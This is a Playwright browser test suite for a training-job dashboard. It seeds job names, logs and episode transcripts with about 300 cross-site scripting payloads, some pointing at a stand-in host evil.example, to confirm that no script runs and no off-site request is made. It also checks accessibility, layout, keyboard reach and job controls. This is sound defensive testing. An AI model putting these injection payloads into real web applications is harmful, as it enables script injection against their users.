"""The pages in a real browser, over a real gateway: Debian's Chromium, driven by Playwright."""

import json
import time

import pytest

from tests.backend.gateway.test_routes_data import sft, upload
from tinkergym.schema.episodes import EpisodeResult
from tinkergym.schema.events import CheckpointView, EvaluationEvent, JobState, StepEvent, WarningEvent

pytestmark = pytest.mark.service
slow = pytest.mark.full("many pages in a browser")

HIT = "window.hit=1"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f'<img src=x onerror="{HIT}">',
    f"<svg onload={HIT}>",
    f"-{HIT}-",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}",
    f'<a href="javascript:{HIT}" autofocus onfocus={HIT}>x</a>',
    f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    f"<details open ontoggle={HIT}>",
    f"<style>@import 'http://evil.example/x.css';</style><body onload={HIT}>",
    f"<base href=http://evil.example/><form action=//evil.example><input autofocus onfocus={HIT}>",
    "<link rel=stylesheet href=http://evil.example/x.css><img src=http://evil.example/x.png>",
    f"<math><mtext></p><style><img src onerror={HIT}></style>",
    f"<object data=javascript:{HIT}><embed src=javascript:{HIT}>",
    "\u202e\u2066right to left\x00\x1b[31m %s %n `id`",
    f"<think><script>{HIT}</script><tool_call><img src=x onerror={HIT}>",
    f"[image 000000000000]<img src=x onerror={HIT}>",
    f"__proto__ constructor toString <b onmouseover={HIT}>",
]
BREAKS = [
    "{}",
    '"{}',
    "'>{}",
    "</script>{}",
    "</textarea></title>{}",
    "-->{}",
    "]]>{}",
    "`{}`",
    "\\u003c{}",
    "&lt;{}",
]
BREAKS += ["*/{}", "\\';{}//", "%3C{}", "\n\n{}", "{}\ufffd"]
HOSTILE = [around.replace("{}", payload) for payload in PAYLOADS for around in BREAKS]
SEATS = 60

ACTIONS = """[...document.querySelectorAll(
    "a[href], button, input, select, textarea, summary, canvas, [data-clicked]"
)].filter((one) => !one.disabled && one.checkVisibility())"""
"""What a visible page lets one do: its links and controls, and whatever else listens to clicks."""
NAMED = "(one) => one.id || one.outerHTML.slice(0, 90)"
UNREACHED = f"(one) => ![one, ...one.querySelectorAll('*')].some((each) => reached.has(({NAMED})(each)))"
"""By name, because lists are drawn again and again."""
ACTIONS_MARKED = """const listen = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (type, ...rest) {
  if (type === "click" && this instanceof Element) this.setAttribute("data-clicked", "");
  return listen.call(this, type, ...rest);
};"""
WIDE = """[...document.querySelectorAll("body *")].filter((one) =>
    one.getBoundingClientRect().left + Math.max(one.offsetWidth ?? 0, one.scrollWidth) > innerWidth
    && !one.closest(".scroll, .virtual-wrap, .members, .log")
).slice(0, 3).map((one) => one.outerHTML.slice(0, 90))"""


class Seen:
    """A page that is logged in, and what went wrong in it."""

    def __init__(self, chromium, gateway, key, url="", **context):
        self.url, self.wrong = url or gateway.url, []
        self.page = chromium.new_context(**context).new_page()
        self.page.add_init_script(ACTIONS_MARKED)
        self.page.on("dialog", lambda dialog: (self.wrong.append("dialog"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
        self.page.on("request", self._request)
        self.page.on("console", self._said)
        self.page.goto(f"{self.url}/dashboard")
        self.page.fill("#key", key)
        self.page.click("form.login button")
        self.page.wait_for_selector("h1:has-text('Jobs')")

    def _request(self, request):
        if not request.url.startswith((self.url, "data:", "blob:")):
            self.wrong.append(f"request to {request.url}")

    def _said(self, message):
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            self.wrong.append(message.text)

    def open(self, path, until):
        self.page.goto(f"{self.url}/dashboard{path}")
        self.page.wait_for_selector(until)
        if self.page.evaluate("window.hit"):
            self.wrong.append(f"a script ran at {path}")


def step(number, text="", **more):
    return StepEvent(
        step=number,
        steps=50,
        policy_version=number,
        reward_mean=number / 100,
        loss=0.1,
        tokens_per_second=1.0,
        step_seconds=1.0,
        sampling_seconds=0.5,
        learning_seconds=0.5,
        seconds_left=7.0,
        metrics={f"env/{text}": 1.0, f"{text}": 2.0} if text else {},
        stop_reasons={text: 3} if text else {},
        **more,
    )


def seat(text, number=0):
    returned = f"<tool_response>{text}</tool_response>"
    parts = [
        {"type": "text", "text": text},
        {"type": "text", "text": returned},
        {"type": "tool_call", "id": "1", "name": text[:200], "arguments": text},
        {"type": "tool_result", "id": "1", "text": text},
        {"type": "image", "sha256": "0" * 64},
    ]
    views = [
        {"kind": "board", "title": text[:200], "rows": [text[:60] or "."]},
        {"kind": "grid", "rows": ["."], "legend": {"<": text[:200]}},
        {"kind": "map", "places": [text[:200]], "at": 0, "ways": [(0, 0)]},
        {"kind": "table", "columns": [text[:200]], "rows": [[text[:200]]]},
    ]
    call = json.dumps({"name": text, "arguments": {text: text}})
    turn = {
        "segment": 0,
        "start": 1,
        "end": 2,
        "policy_version": 1,
        "finish_reason": "stop",
        "observation": parts,
        "action": f"<think>{text}</think><tool_call>{text}</tool_call>{text}<tool_call>{call}</tool_call>"
        + returned,
        "reward": 1.0,
        "metrics": {text[:90]: 1.0, f"untrained_answers/{text}"[:90]: 1.0},
        "view": views[number % len(views)],
    }
    return {
        "agent": f"{number}{text}"[:90],
        "segments": [
            {"token_ids": [first, 2], "loss_mask": [False, True], "sampling_logprobs": [None, -1.0]}
            for first in (1, 3)
        ],
        "turns": [turn, {**turn, "segment": 1}],  # the second begins a conversation: the calls are a tree
        "terminated": True,
        "truncated": False,
        "stop_reason": "environment_error",
        "error": text,
        "seed": 1,
        "final_observation": text,
    }


def episode(job_id, index, *texts):
    seats = [seat(text, number) for number, text in enumerate(texts)]
    return EpisodeResult.model_validate(
        {"episode_id": f"{job_id}:1:{index}", "lease_id": "l", "trajectories": seats}
    )


def hostile_job(gateway, client, spec, text):
    job_id = client.post("/v1/jobs", json={**spec, "name": text[:200], "system_prompt": text}).json()[
        "job_id"
    ]
    labels = {"name": text[:200], "tags": [text[:60]], "note": text}
    assert client.post(f"/v1/jobs/{job_id}/labels", json=labels).status_code == 200
    service = gateway.store.service()
    lease = service.acquire(job_id, "worker", 600, now=time.time())
    service.set_state(lease, JobState.RUNNING, reason=text)
    evaluated = {"policy_version": 1, "episodes": 4, "failed_episodes": 0, "mean": 0.5, "overlap": 0.5}
    service.append_events(
        lease,
        [
            WarningEvent(name=text[:90], message=text, step=1, episodes=[f"{job_id}:1:0", text]),
            step(1, text),
            EvaluationEvent(name=text, step=1, **evaluated),
        ],
    )
    service.save_episodes(lease, 1, [episode(job_id, 0, text)])
    return job_id, lease


def queue_for_hostile_reasons(gateway, client, spec):
    """Let jobs wait for all the texts, some at a time."""
    for at in range(0, len(HOSTILE), 6):
        job_id = client.post("/v1/jobs", json=spec).json()["job_id"]
        gateway.store.service().explain_queue([job_id], " ".join(HOSTILE[at : at + 6]))
    return job_id


def write_hostile_log(gateway):
    """Let the service's log hold all the texts, and its workers be named by one."""
    gateway.config.log_dir.mkdir(exist_ok=True)
    (gateway.config.log_dir / "scheduler.log").write_text("\n".join(HOSTILE))
    service = gateway.store.service()
    service.register_engine_host(
        HOSTILE[0], pool_id="p", model=HOSTILE[1], node=HOSTILE[2], url="unix:/x", now=time.time()
    )


@slow
def test_runs_nothing_of_what_hostile_texts_say(chromium, gateway, client, spec):
    assert len(set(HOSTILE)) == 300
    seen = Seen(chromium, gateway, gateway.keys["ada"])
    waiting = queue_for_hostile_reasons(gateway, client, spec)
    seen.open("", f"#slot-{waiting}")
    write_hostile_log(gateway)
    operator = Seen(chromium, gateway, gateway.keys["owner"])
    operator.open("/service", ".log:not(:empty)")
    assert HOSTILE[-1].strip() in operator.page.inner_text(".log")
    assert operator.wrong == []
    operator.page.close()  # it would go on asking
    gateway.store.service().remove_engine_host(HOSTILE[0])
    jobs = [hostile_job(gateway, client, spec, text)[0] for text in HOSTILE[::10]]
    job_id, lease = hostile_job(gateway, client, spec, "all of them")
    service = gateway.store.service()
    evaluated = {"policy_version": 1, "episodes": 4, "failed_episodes": 0, "mean": 0.5, "overlap": 0.5}
    for number, text in enumerate(HOSTILE, start=2):
        evaluation = EvaluationEvent(name=text, step=number, **evaluated)
        warning = WarningEvent(name=text[:90], message=text, step=number)
        service.append_events(lease, [warning, step(number, text), evaluation])
    parts = [HOSTILE[at : at + SEATS] for at in range(0, len(HOSTILE), SEATS)]
    service.save_episodes(lease, 1, [episode(job_id, at, *some) for at, some in enumerate(parts, start=1)])
    seen.open("", f"text={job_id}")
    seen.open(f"/compare/{'/'.join(jobs[:6])}", "text=Settings that differ")
    for one in [job_id, *jobs]:
        seen.open(f"/jobs/{one}", "text=Settings as they took effect")
    for one in [job_id, *jobs[::6]]:
        seen.open(f"/jobs/{one}/episodes", ".virtual-row")
        seen.open(f"/jobs/{one}/group/1/0", ".turn")
        seen.open(f"/jobs/{one}/task/1:0", ".turn")
        seen.open(f"/jobs/{one}/games", "text=Newest matches")
    for at in range(len(parts) + 1):
        seen.open(f"/jobs/{job_id}/episodes/{job_id}:1:{at}", ".observation :text('tool returned')")
        assert seen.page.locator(".action :text('tool returned')").count() == 0  # the policy made it up
    assert seen.wrong == []


@slow
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_has_no_serious_fault_for_readers_with_aids(chromium, gateway, client, spec, scheme):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-core is not installed")
    found = []
    for path, page in every_page(chromium, gateway, client, spec, color_scheme=scheme):
        violations = axe.Axe().run(page).response["violations"]
        found += [(path, one["id"]) for one in violations if one["impact"] in ("serious", "critical")]
    assert found == []


def every_page(chromium, gateway, client, spec, **context):
    """Yield all pages, of a job with long words, that are ready."""
    job_id, lease = hostile_job(gateway, client, spec, f"plain {'long' * 30}")
    gateway.store.service().add_checkpoint(
        lease, CheckpointView(step=1, policy_version=1, key=f"{job_id}/1", sha256="00", files={})
    )
    client.post("/v1/jobs", json=spec)  # waits
    write_hostile_log(gateway)
    seen, operator = (Seen(chromium, gateway, gateway.keys[who], **context) for who in ("ada", "owner"))
    job, own = f"/jobs/{job_id}", f"/jobs/{job_id}/episodes/{job_id}:1:0"
    group = f"{job}/group/1/0", f"{job}/task/1:0"
    pages = ("", job, f"{job}/episodes", own, *group, f"{job}/games", f"/compare/{job_id}")
    for who, path in (*((seen, one) for one in (*pages, "/usage")), (operator, ""), (operator, "/service")):
        who.open(path, "h1")
        who.page.wait_for_load_state("networkidle")
        yield path, who.page
    gateway.store.service().remove_engine_host(HOSTILE[0])


@pytest.mark.parametrize("width", [390, 1280])
def test_needs_no_scrolling_sideways(chromium, gateway, client, spec, width):
    too_wide = []
    size = {"width": width, "height": 844}
    for path, page in every_page(chromium, gateway, client, spec, viewport=size, has_touch=width < 500):
        if page.evaluate("document.documentElement.scrollWidth") > width:
            too_wide.append((path, page.evaluate(WIDE)))
    assert too_wide == []


@slow
def test_reaches_every_action_with_the_keyboard_alone(chromium, gateway, client, spec):
    missed = []
    for path, page in every_page(chromium, gateway, client, spec):
        page.evaluate("document.activeElement.blur(); getSelection().removeAllRanges()")
        for _ in range(page.evaluate(f"{ACTIONS}.length") + 60):  # and regions that scroll
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement === document.body"):
                break
            page.evaluate(f"(window.reached ??= new Set()).add(({NAMED})(document.activeElement))")
        missed += [(path, one) for one in page.evaluate(f"{ACTIONS}.filter({UNREACHED}).map({NAMED})")]
    assert missed == []


@slow
def test_shows_the_first_episodes_while_it_reads_the_others(chromium, gateway, client, spec):
    job_id, _ = hostile_job(gateway, client, spec, "plain")
    seen, held = Seen(chromium, gateway, gateway.keys["ada"]), []

    def page_of_two(route):
        if "before=" in route.request.url:
            held.append(route)
            return
        answer = route.fetch()
        route.fulfill(response=answer, json={**answer.json(), "steps": 2, "next_before": 1})

    seen.page.route("**/episodes/rows?*", page_of_two)
    seen.open(f"/jobs/{job_id}/episodes", ".virtual-row")
    assert seen.page.inner_text("form [role=status]") == "reading: 1 of 2 steps"
    assert len(held) == 1
    held[0].fulfill(json={"rows": {"step": []}, "next_before": None, "steps": 2, "read": 1, "group_size": 4})
    seen.page.wait_for_selector("text=1 read")
    assert seen.wrong == []


@slow
def test_grows_with_the_event_log_without_gap_or_double(chromium, gateway, client, spec):
    job_id, lease = hostile_job(gateway, client, spec, "plain")
    service = gateway.store.service()
    seen = Seen(chromium, gateway, gateway.keys["ada"])

    def ahead(route):
        answer = route.fetch()
        route.fulfill(response=answer, json={**answer.json(), "step": 5})

    # The job's row may be read before the events of its last steps arrive.
    seen.page.route(f"**/v1/jobs/{job_id}", ahead)
    seen.open(f"/jobs/{job_id}", "text=● live")
    service.append_event(lease, step(2))
    seen.page.wait_for_selector("text=2 / 50")
    seen.page.evaluate("Object.defineProperty(document, 'hidden', {value: true, configurable: true})")
    seen.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    for number in (3, 4, 5):
        service.append_event(lease, step(number))
    seen.page.evaluate("Object.defineProperty(document, 'hidden', {value: false, configurable: true})")
    seen.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    seen.page.wait_for_selector("text=engine busy 2.5 s")
    assert "5 / 50" in seen.page.inner_text(".facts")
    assert "reward mean 0.050" in seen.page.inner_text(".chart .legend >> nth=0")
    service.set_state(lease, JobState.COMPLETED)
    seen.page.wait_for_selector(".state.completed")
    assert seen.wrong == []


def test_pauses_after_a_question_with_a_key_that_may(chromium, gateway, client, spec):
    job_id = client.post("/v1/jobs", json=spec).json()["job_id"]
    reader = gateway.store.keys.create(gateway.tenants["ada"], "screen", read_only=True)
    looking = Seen(chromium, gateway, reader)
    looking.open(f"/jobs/{job_id}", "text=Settings as they took effect")
    assert looking.page.locator("button:has-text('Pause')").count() == 0
    acting = Seen(chromium, gateway, gateway.keys["ada"])
    acting.open(f"/jobs/{job_id}", "text=Settings as they took effect")
    acting.page.click("button:has-text('Pause')")
    acting.page.click("dialog button:has-text('Keep as it is')")
    assert client.get(f"/v1/jobs/{job_id}").json()["state"] == "queued"
    acting.page.click("button:has-text('Pause')")
    acting.page.click("dialog button:has-text('Pause')")
    acting.page.wait_for_selector(".state.paused")
    acting.page.click("text=Log out")
    acting.page.wait_for_selector("text=API key")
    assert (acting.wrong, looking.wrong) == ([], [])


@slow
def test_shows_the_rates_of_keys(chromium, gateway):
    key = gateway.store.keys.create(gateway.tenants["ada"], "chatbot", tokens_per_minute=1000)
    seen = Seen(chromium, gateway, key)
    seen.open("/usage", "text=everything but jobs, 1,000 tokens per minute")
    assert seen.wrong == []


@slow
def test_promotes_a_checkpoint_with_a_key_that_may(chromium, gateway, client, spec):
    job_id, lease = hostile_job(gateway, client, spec, "plain")
    for number in (1, 2):
        view = CheckpointView(
            step=number, policy_version=number, key=f"{job_id}/{number}", sha256="00", files={}
        )
        gateway.store.service().add_checkpoint(lease, view)
    reader = gateway.store.keys.create(gateway.tenants["ada"], "screen", read_only=True)
    acting, looking = Seen(chromium, gateway, gateway.keys["ada"]), Seen(chromium, gateway, reader)
    acting.open(f"/jobs/{job_id}", "button:has-text('Promote')")
    for row, share in ((1, "100"), (0, "10")):
        acting.page.click(f"button:has-text('Promote') >> nth={row}")
        acting.page.fill("dialog input >> nth=0", "support")
        acting.page.fill("dialog input[type=number]", share)
        acting.page.click("dialog button:has-text('Promote it')")
        acting.page.wait_for_selector(f"text=for {share} %" if row == 0 else "text=served as support")
    (name,) = client.get("/v1/names").json()["names"]
    assert (name["policy"], name["canary"], name["share"]) == (f"{job_id}@1", f"{job_id}@2", 0.1)
    looking.open(f"/jobs/{job_id}", "text=served as support for 90 % of the requests")
    assert looking.page.locator("button:has-text('Promote')").count() == 0
    assert (acting.wrong, looking.wrong) == ([], [])


def saved(gateway, job_id, *agents):
    """Give a job a checkpoint of step 2 and return the lease under which it runs."""
    service = gateway.store.service()
    lease = service.acquire(job_id, "worker", 600, now=time.time())
    for agent in agents:
        view = CheckpointView(
            step=2, policy_version=2, agent=agent, key=f"{job_id}/{agent}", sha256="00", files={}
        )
        service.add_checkpoint(lease, view, agent)
    return lease


@slow
def test_begins_new_jobs_and_games_with_a_checkpoint(chromium, gateway, client, spec):
    learned = client.post("/v1/jobs", json=sft(upload(client, 4, 5))).json()["job_id"]
    seats = {"x": {"kind": "train"}, "o": {"kind": "train"}}
    played = {**spec, "environment": {"id": "board/TicTacToe-v0"}, "rollout": "server", "agents": seats}
    game = client.post("/v1/jobs", json=played).json()["job_id"]
    saved(gateway, learned, "")
    saved(gateway, game, "x", "o")
    seen = Seen(chromium, gateway, gateway.keys["ada"])
    made = []
    for job_id in (learned, game):
        seen.open(f"/jobs/{job_id}", "button:has-text('Train on from here')")
        seen.page.click("button:has-text('Train on from here') >> nth=0")
        seen.page.fill("dialog input >> nth=0", "7")
        with seen.page.expect_navigation():
            seen.page.click("dialog button:has-text('Start it')")
        made.append(client.get(f"/v1/jobs/{seen.page.url.rsplit('/', 1)[1]}").json()["spec"])
    assert (made[0]["steps"], made[0]["initial_policy"]) == (7, f"{learned}@2")
    begun = {agent: seat["initial_policy"] for agent, seat in made[1]["agents"].items()}
    assert begun == {agent: f"{game}/{agent}@2" for agent in "xo"}
    cell = {"row": f"{game}/o@2", "column": "<b>random</b>", "mean_return": 0.5, "interval_95": [0, None]}
    counts = dict.fromkeys(
        ("wins", "draws", "losses", "forfeits_won", "forfeits_lost", "cut_off", "failed"), 1
    )
    answer = json.dumps({"crossplay": {"cells": [cell | counts]}}) + "\n"
    seen.page.route("**/crossplay", lambda route: route.fulfill(body=answer))
    seen.open(f"/jobs/{game}", "button:has-text('Evaluate')")
    seen.page.click("tr:has-text('/o@2') button:has-text('Evaluate')")
    with seen.page.expect_request("**/crossplay") as asked:
        seen.page.click("dialog button:has-text('Play')")
    assert (asked.value.post_data_json["versions"], asked.value.post_data_json["against"]) == (
        [2],
        ["random"],
    )
    seen.page.wait_for_selector("text=<b>random</b>: mean return 0.500")
    assert seen.wrong == []


@slow
def test_says_in_a_sentence_that_a_browser_is_old(chromium, gateway):
    seen = Seen(chromium, gateway, gateway.keys["ada"])
    seen.page.add_init_script("delete Map.groupBy")
    seen.open("", ".problem")
    assert "too old" in seen.page.inner_text(".problem")


@slow
def test_says_in_a_sentence_what_cannot_be_shown(chromium, gateway):
    seen = Seen(chromium, gateway, gateway.keys["ada"])
    for path in ("/jobs/job-never", "/jobs/job-never/episodes/x", "/jobs/job-never/episodes", "/nonsense"):
        seen.open(path, ".problem")
    assert seen.wrong == []
